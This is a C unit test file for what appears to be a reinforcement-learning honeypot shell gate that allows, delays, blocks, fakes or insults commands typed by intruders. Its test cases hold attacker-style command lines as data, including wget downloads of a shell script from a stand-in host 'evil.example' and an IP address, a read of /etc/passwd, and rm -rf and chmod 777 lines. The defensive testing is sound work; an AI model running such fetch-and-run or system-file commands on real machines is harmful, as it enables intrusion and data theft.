/* test_gate.c -- each action does what it says and nothing else.
 *
 * The few calls of the virtual kernel that the gate makes are played here.
 * SPDX-License-Identifier: Apache-2.0                                  */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "policy/effects.h"
#include "policy/session.h"
#include "vm/host.h"
#include "vm/persona.h"

/* --- a process that writes into strings -------------------------------------- */

struct proc {
    struct arena *arena;
    struct arena_budget budget;
    struct str out[3];
    struct persona persona;
    struct policy_session *policy;
    int64_t slept;
    bool tty, interrupt, ends_while_asleep;
    const char *lang;
};

void *vm_alloc(struct proc *p, size_t n)
{
    return arena_zalloc(p->arena, n);
}
void vm_release(struct proc *p, void *mem, size_t n)
{
    arena_release(p->arena, mem, n);
}
struct arena *vm_arena_new(struct proc *p)
{
    return arena_new(&p->budget, 0);
}
void vm_arena_drop(struct proc *p, struct arena *a)
{
    (void)p;
    arena_free(a);
}
void vm_tick(struct proc *p, unsigned steps)
{
    (void)p;
    (void)steps;
}
ssize_t vm_write_all(struct proc *p, int fd, const void *buf, size_t n)
{
    str_add(&p->out[fd], buf, n);
    return (ssize_t)n;
}
bool vm_isatty(struct proc *p, int fd)
{
    (void)fd;
    return p->tty;
}
int vm_sleep_us(struct proc *p, int64_t us)
{
    p->slept += us;
    if (p->ends_while_asleep) {
        policy_session_free(p->policy);
        p->policy = NULL;
    }
    return p->interrupt ? -EINTR : 0;
}
struct vm_login *vm_login_of(struct proc *p)
{
    return (struct vm_login *)p;
}
void *vm_login_policy(const struct vm_login *l)
{
    return ((const struct proc *)l)->policy;
}
const char *vm_login_from(const struct vm_login *l)
{
    (void)l;
    return "203.0.113.5";
}
const struct persona *vm_persona(struct proc *p)
{
    return &p->persona;
}
const char *vm_getenv(struct proc *p, const char *name)
{
    return strcmp(name, "LANG") == 0 ? p->lang : NULL;
}
struct timespec vm_now(struct proc *p)
{
    (void)p;
    return (struct timespec){1785326400, 0};
}

/* --- the rig ------------------------------------------------------------------------ */

struct rig {
    struct proc p;
    struct clock clock;
    struct policy_world *world;
    unsigned decided, transitions;
    uint64_t undecided;
    char line[64], input[256], action[16], effect[64], kind[16];
    double propensity;
    struct rl_transition last;
    float newest; /* of the window told */
};

static void on_decided(void *ctx, const struct event_action *e)
{
    struct rig *r = ctx;
    r->decided++;
    snprintf(r->input, sizeof r->input, "%.*s", (int)e->input.n, e->input.p);
    snprintf(r->action, sizeof r->action, "%.*s", (int)e->action.n, e->action.p);
    snprintf(r->effect, sizeof r->effect, "%.*s", (int)e->effect.n, e->effect.p ? e->effect.p : "");
    snprintf(r->kind, sizeof r->kind, "%.*s", (int)e->kind.n, e->kind.p);
    r->propensity = e->propensity;
    assert_int_equal(e->state.n, RL_WINDOW);
    r->newest = e->state.v[RL_WINDOW - 1];
    assert_int_equal((int)r->newest, (int)e->code);
}
static void on_transition(void *ctx, const struct rl_transition *t)
{
    struct rig *r = ctx;
    r->transitions++;
    r->last = *t;
    assert_true(rl_transition_valid(t));
}
static void on_line(void *ctx, const char *line, size_t n)
{
    struct rig *r = ctx;
    snprintf(r->line, sizeof r->line, "%.*s", (int)n, line);
}
static void on_undecided(void *ctx, uint64_t n)
{
    ((struct rig *)ctx)->undecided += n;
}

static int setup(void **state)
{
    struct rig *r = calloc(1, sizeof *r);
    struct policy_sink sink = {.ctx = r,
                               .decided = on_decided,
                               .transition = on_transition,
                               .undecided = on_undecided,
                               .line = on_line};
    r->p.budget.max = 8 << 20;
    r->p.arena = arena_new(&r->p.budget, 0);
    str_init(&r->p.out[1], r->p.arena);
    str_init(&r->p.out[2], r->p.arena);
    r->p.persona.seed = 99;
    clock_init_fake(&r->clock, INT64_C(1785326400000000));
    struct policy_world_conf conf = {
        .clock = &r->clock, .seed = 5, .reward_profile = RL_REWARD_ARTEFACT, .delay_us = 3000000};
    r->world = policy_world_new(&conf);
    r->p.policy = policy_session_new(r->world, "0123456789ab", "DE", &sink);
    *state = r;
    return 0;
}
static int teardown(void **state)
{
    struct rig *r = *state;
    policy_session_free(r->p.policy);
    policy_world_free(r->world);
    arena_free(r->p.arena);
    free(r);
    return 0;
}

static void use(struct rig *r, const char *agent)
{
    const struct rl_policy *p = rl_policy_builtin(agent);
    assert_non_null(p);
    policy_world_use(r->world, p);
}

static enum policy_verdict gate(struct rig *r, enum policy_kind kind, const char *line, int *status)
{
    static char words[512], path[300];
    char *argv[32];
    struct policy_command c = {.kind = kind, .argv = argv, .shell = "-bash", .pipe_len = 1};

    snprintf(words, sizeof words, "%s", line);
    for (char *w = words, *next; w; w = next) {
        if ((next = strchr(w, ' ')))
            *next++ = '\0';
        argv[c.argc++] = w;
    }
    argv[c.argc] = NULL;
    snprintf(path, sizeof path, "/usr/bin/%s", argv[0]);
    c.path = kind == POLICY_PROGRAM ? path : NULL;
    str_trunc(&r->p.out[1], 0);
    str_trunc(&r->p.out[2], 0);
    *status = -1;
    return policy_gate(&r->p, &c, status);
}

#define OUT(r) str_text(&(r)->p.out[1])
#define ERR(r) str_text(&(r)->p.out[2])

/* --- the tests --------------------------------------------------------------------- */

static void allow_runs_and_shows_nothing(void **state)
{
    struct rig *r = *state;
    int status;
    assert_int_equal(gate(r, POLICY_PROGRAM, "wget http://h/x", &status), POLICY_RUN);
    assert_string_equal(r->action, "allow");
    assert_string_equal(r->input, "wget http://h/x");
    assert_string_equal(r->kind, "program");
    assert_string_equal(OUT(r), "");
    assert_string_equal(ERR(r), "");
    assert_true(r->p.slept == 0);
    assert_true(r->propensity == 1);
}

static void delay_sleeps_then_runs(void **state)
{
    struct rig *r = *state;
    int status;
    double sum = 0;

    use(r, "delay");
    for (int i = 0; i < 300; i++) {
        r->p.slept = 0;
        assert_int_equal(gate(r, POLICY_PROGRAM, "id", &status), POLICY_RUN);
        assert_true(r->p.slept >= 600000 && r->p.slept <= 12000000);
        sum += (double)r->p.slept;
    }
    assert_true(sum / 300 > 2.6e6 && sum / 300 < 3.4e6);
    assert_string_equal(OUT(r), "");
}

static void a_broken_delay_ends_the_command(void **state)
{
    struct rig *r = *state;
    int status;
    use(r, "delay");
    r->p.interrupt = true;
    assert_int_equal(gate(r, POLICY_BUILTIN, "cd /tmp", &status), POLICY_DONE);
    assert_int_equal(status, 130);
}

static void a_session_may_end_during_a_delay(void **state)
{
    struct rig *r = *state;
    int status;
    use(r, "delay");
    r->p.ends_while_asleep = true;
    assert_int_equal(gate(r, POLICY_PROGRAM, "id", &status), POLICY_RUN);
    assert_int_equal(r->transitions, 1);
    assert_true(r->last.done);
    assert_int_equal(gate(r, POLICY_PROGRAM, "id", &status), POLICY_RUN);
    assert_int_equal(r->decided, 1);
}

static void block_shows_the_tools_own_error(void **state)
{
    static const struct {
        enum policy_kind kind;
        const char *line, *err;
        int status;
    } cases[] = {
        {POLICY_PROGRAM, "wget -q http://h/x", "-bash: /usr/bin/wget: Permission denied\n", 126},
        {POLICY_NOTFOUND, "frobnicate -x", "-bash: frobnicate: command not found\n", 127},
        {POLICY_NOTFOUND, "./x", "-bash: ./x: No such file or directory\n", 127},
        {POLICY_SCRIPT, "./x.sh a", "-bash: ./x.sh: Permission denied\n", 126},
        {POLICY_PROGRAM, "rm -rf a -- -b",
         "rm: cannot remove 'a': Operation not permitted\n"
         "rm: cannot remove '-b': Operation not permitted\n",
         1},
        {POLICY_PROGRAM, "chmod 777 /tmp/x",
         "chmod: changing permissions of '/tmp/x': Operation not permitted\n", 1},
        {POLICY_PROGRAM, "head -n 5 /etc/passwd",
         "head: cannot open '/etc/passwd' for reading: Permission denied\n", 1},
        {POLICY_PROGRAM, "cat", "-bash: /usr/bin/cat: Permission denied\n", 126},
        {POLICY_PROGRAM, "ls", "ls: cannot open directory '.': Permission denied\n", 2},
        {POLICY_PROGRAM, "dd if=/dev/zero of=/tmp/z",
         "dd: failed to open '/tmp/z': Permission denied\n", 1},
        {POLICY_BUILTIN, "cd /tmp", "-bash: cd: /tmp: Permission denied\n", 1},
    };
    struct rig *r = *state;
    int status;

    use(r, "block");
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        assert_int_equal(gate(r, cases[i].kind, cases[i].line, &status), POLICY_DONE);
        assert_string_equal(ERR(r), cases[i].err);
        assert_string_equal(OUT(r), "");
        assert_int_equal(status, cases[i].status);
        assert_true(str_starts(r->effect, "block:"));
    }
}

static void quotes_follow_the_locale(void **state)
{
    struct rig *r = *state;
    int status;
    use(r, "block");
    gate(r, POLICY_PROGRAM, "mkdir x", &status);
    assert_string_equal(ERR(r), "mkdir: cannot create directory 'x': Permission denied\n");
    r->p.lang = "en_US.UTF-8";
    gate(r, POLICY_PROGRAM, "mkdir -m 700 x", &status);
    assert_string_equal(ERR(r),
                        "mkdir: cannot create directory \u2018x\u2019: Permission denied\n");
}

static void fakes_are_plausible_and_repeat(void **state)
{
    struct rig *r = *state;
    char first[4096];
    int status;

    use(r, "fake");
    assert_int_equal(gate(r, POLICY_PROGRAM, "wget http://evil.example/a.sh", &status),
                     POLICY_DONE);
    assert_int_equal(status, 4);
    assert_true(str_starts(ERR(r), "--2026-07-29 12:00:00--  http://evil.example/a.sh\n"
                                   "Resolving evil.example (evil.example)... failed: "));
    snprintf(first, sizeof first, "%s", ERR(r));
    gate(r, POLICY_PROGRAM, "wget http://evil.example/a.sh", &status);
    assert_string_equal(ERR(r), first);
    gate(r, POLICY_PROGRAM, "wget http://198.51.100.7:8080/bins/a.sh", &status);
    assert_non_null(strstr(ERR(r), "Connecting to 198.51.100.7:8080... "));
    gate(r, POLICY_PROGRAM, "wget -qO- http://evil.example/a.sh", &status);
    assert_string_equal(ERR(r), "");
    assert_int_equal(gate(r, POLICY_PROGRAM, "id", &status), POLICY_DONE);
    assert_string_equal(OUT(r), "uid=65534(nobody) gid=65534(nogroup) groups=65534(nogroup)\n");
    assert_int_equal(gate(r, POLICY_PROGRAM, "lsmod", &status), POLICY_DONE);
    assert_string_equal(OUT(r), "");
    assert_int_equal(status, 0);
    assert_string_equal(r->effect, "fake:silence");
}

static void the_false_machine_agrees_with_itself(void **state)
{
    struct rig *r = *state;
    char cpus[32];
    int status, processors = 0;

    use(r, "fake");
    gate(r, POLICY_PROGRAM, "nproc", &status);
    snprintf(cpus, sizeof cpus, "%s", OUT(r));
    gate(r, POLICY_PROGRAM, "cat /proc/cpuinfo", &status);
    for (const char *at = OUT(r); (at = strstr(at, "processor\t:")); at++)
        processors++;
    assert_int_equal(processors, strtol(cpus, NULL, 10));
    gate(r, POLICY_PROGRAM, "uname -r", &status);
    char release[64];
    snprintf(release, sizeof release, "%.*s", (int)strcspn(OUT(r), "\n"), OUT(r));
    gate(r, POLICY_PROGRAM, "uname -a", &status);
    assert_non_null(strstr(OUT(r), release));
    assert_true(str_ends(OUT(r), " x86_64 GNU/Linux\n"));
    gate(r, POLICY_PROGRAM, "uname -s -m", &status);
    assert_string_equal(OUT(r), "Linux x86_64\n");
}

static void insults_speak_the_countrys_language(void **state)
{
    struct rig *r = *state;
    int status;
    use(r, "insult");
    assert_int_equal(gate(r, POLICY_PROGRAM, "ls", &status), POLICY_DONE);
    assert_string_equal(r->effect, "insult:de");
    assert_true(r->p.out[1].n > 10 && utf8_valid(OUT(r), r->p.out[1].n));
    r->p.tty = true;
    gate(r, POLICY_PROGRAM, "ls", &status);
    assert_int_equal(r->p.out[1].n, 0);
    assert_true(r->p.out[2].n > 10);
    /* what feeds another command must not swallow it */
    char *argv[] = {(char *)"ls", NULL};
    struct policy_command c = {
        .kind = POLICY_PROGRAM, .argc = 1, .argv = argv, .shell = "sh", .pipe_len = 2};
    r->p.tty = false;
    str_trunc(&r->p.out[1], 0);
    str_trunc(&r->p.out[2], 0);
    assert_int_equal(policy_gate(&r->p, &c, &status), POLICY_DONE);
    assert_int_equal(r->p.out[1].n, 0);
    assert_true(r->p.out[2].n > 10);
}

static void every_insult_is_safe_for_a_terminal(void **state)
{
    static const char *const countries[] = {"US", "DE", "CN", "RU", "IR",
                                            "TW", "KE", "XX", "",   "K"};
    struct rng rng;
    const char *language;
    (void)state;

    rng_seed(&rng, 1);
    for (size_t i = 0; i < sizeof countries / sizeof countries[0]; i++)
        for (int k = 0; k < 50; k++) {
            const char *t = policy_insult_choose(countries[i], &rng, &language);
            assert_true(strlen(t) > 5 && utf8_valid(t, strlen(t)));
            for (const char *c = t; *c; c++)
                assert_true((unsigned char)*c >= 0x20 && *c != 0x7f);
        }
    policy_insult_choose("TW", &rng, &language);
    assert_string_equal(language, "zht");
    policy_insult_choose("US", &rng, &language);
    assert_string_equal(language, "en");
    policy_insult_choose(NULL, &rng, &language);
    assert_string_equal(language, "en");
}

static void exempt_words_run_unasked(void **state)
{
    static const char *const words[] = {"break",  "true",    ":",          "[ a ]",
                                        "set -e", "eval ls", "export A=1", "exec ls"};
    struct rig *r = *state;
    int status;
    use(r, "block");
    for (size_t i = 0; i < sizeof words / sizeof words[0]; i++)
        assert_int_equal(gate(r, POLICY_BUILTIN, words[i], &status), POLICY_RUN);
    assert_int_equal(gate(r, POLICY_FUNCTION, "f", &status), POLICY_RUN);
    assert_int_equal(r->decided, 0);
    /* the program of the same name is not exempt */
    assert_int_equal(gate(r, POLICY_PROGRAM, "true", &status), POLICY_DONE);
}

static void exit_is_recorded_and_ends_the_episode(void **state)
{
    struct rig *r = *state;
    int status;
    use(r, "block");
    gate(r, POLICY_PROGRAM, "ls", &status);
    assert_int_equal(gate(r, POLICY_BUILTIN, "exit 0", &status), POLICY_RUN);
    assert_string_equal(r->action, "allow");
    assert_string_equal(r->effect, "terminal");
    assert_int_equal(r->transitions, 1);
    assert_true(r->last.done);
    assert_int_equal(r->last.action, RL_BLOCK);
    policy_session_end(r->p.policy);
    assert_int_equal(r->transitions, 1);
}

static void transitions_close_with_the_next_command(void **state)
{
    struct rig *r = *state;
    int status;
    gate(r, POLICY_PROGRAM, "wget http://h/x", &status);
    assert_int_equal(r->transitions, 0);
    policy_note_artefact(r->p.policy);
    clock_advance(&r->clock, 2000000);
    gate(r, POLICY_PROGRAM, "ls", &status);
    assert_int_equal(r->transitions, 1);
    assert_false(r->last.done);
    assert_int_equal(r->last.outcome.artefacts, 1);
    assert_true(r->last.reward > 0);
    assert_true(r->last.s.window[RL_WINDOW - 1] == r->last.next.window[RL_WINDOW - 2]);
    policy_session_end(r->p.policy);
    policy_session_end(r->p.policy);
    assert_int_equal(r->transitions, 2);
    assert_true(r->last.done);
    assert_true(r->last.reward < 0);
}

static void a_flood_runs_unasked_beyond_its_budget(void **state)
{
    struct rig *r = *state;
    struct policy_stats st;
    int status;
    for (int i = 0; i < 5000; i++)
        assert_int_equal(gate(r, POLICY_BUILTIN, "echo x", &status), POLICY_RUN);
    policy_session_stats(r->p.policy, &st);
    assert_int_equal(r->decided, 1000);
    assert_int_equal(st.undecided, 4000);
    clock_advance(&r->clock, 1000000);
    for (int i = 0; i < 100; i++)
        gate(r, POLICY_BUILTIN, "echo x", &status);
    assert_int_equal(r->decided, 1100);
    policy_session_end(r->p.policy);
    assert_int_equal(r->undecided, 4000);
}

static void random_policy_uses_all_actions(void **state)
{
    struct rig *r = *state;
    struct policy_stats st;
    int status;
    use(r, "random");
    for (int i = 0; i < 400; i++)
        gate(r, POLICY_PROGRAM, "ls /", &status);
    policy_session_stats(r->p.policy, &st);
    for (int a = 0; a < RL_ACTION_COUNT; a++)
        assert_in_range(st.actions[a], 50, 110);
}

static void lines_reach_the_sink_as_typed(void **state)
{
    struct rig *r = *state;
    policy_line(&r->p, "if; then (", 10);
    assert_string_equal(r->line, "if; then (");
    assert_int_equal(r->decided, 0);
}

static void odd_words_are_quoted_in_records(void **state)
{
    struct rig *r = *state;
    char *argv[] = {(char *)"echo", (char *)"a b", (char *)"it's", (char *)"", NULL};
    struct policy_command c = {.kind = POLICY_BUILTIN, .argc = 4, .argv = argv, .shell = "sh"};
    int status;
    assert_int_equal(policy_gate(&r->p, &c, &status), POLICY_RUN);
    assert_string_equal(r->input, "echo 'a b' 'it'\\''s' ''");
}

static void huge_commands_are_bounded(void **state)
{
    struct rig *r = *state;
    char *big = malloc(1 << 20);
    memset(big, 'A', (1 << 20) - 1);
    big[(1 << 20) - 1] = 0;
    char *argv[] = {(char *)"rm", big, big, big, big, NULL};
    struct policy_command c = {
        .kind = POLICY_PROGRAM, .argc = 5, .argv = argv, .shell = "sh", .path = "/usr/bin/rm"};
    int status;
    use(r, "block");
    assert_int_equal(policy_gate(&r->p, &c, &status), POLICY_DONE);
    assert_true(r->p.out[2].n < 2 * POLICY_TEXT_MAX);
    free(big);
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
    const struct CMUnitTest tests[] = {
        T(allow_runs_and_shows_nothing),
        T(delay_sleeps_then_runs),
        T(a_broken_delay_ends_the_command),
        T(a_session_may_end_during_a_delay),
        T(block_shows_the_tools_own_error),
        T(quotes_follow_the_locale),
        T(fakes_are_plausible_and_repeat),
        T(the_false_machine_agrees_with_itself),
        T(insults_speak_the_countrys_language),
        T(every_insult_is_safe_for_a_terminal),
        T(exempt_words_run_unasked),
        T(exit_is_recorded_and_ends_the_episode),
        T(transitions_close_with_the_next_command),
        T(a_flood_runs_unasked_beyond_its_budget),
        T(random_policy_uses_all_actions),
        T(lines_reach_the_sink_as_typed),
        T(odd_words_are_quoted_in_records),
        T(huge_commands_are_bounded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
